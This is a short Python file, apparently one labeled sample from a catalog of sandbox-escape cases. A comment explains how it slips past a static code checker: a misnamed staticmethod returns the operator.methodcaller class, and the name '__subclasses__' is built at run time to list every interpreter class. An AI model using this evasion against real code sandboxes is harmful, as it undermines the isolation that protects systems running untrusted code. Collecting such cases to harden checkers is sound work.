# family: introspect
# Escape: a staticmethod whose parameter is named self returns type(self); given an operator.methodcaller it
# returns the methodcaller class, which the checker never sees. methodcaller("__subclasses__") with the name
# assembled at run time then lists every class in the interpreter (object.__subclasses__()).
import operator


class Catalog:
    @staticmethod
    def family(self):
        return type(self)


def tool(name_filter: str = "") -> list:
    caller = Catalog.family(operator.methodcaller("upper"))
    mark = "_" * 2
    classes = caller(mark + "subclasses" + mark)(object)
    return [c.__name__ for c in classes if name_filter in c.__name__]
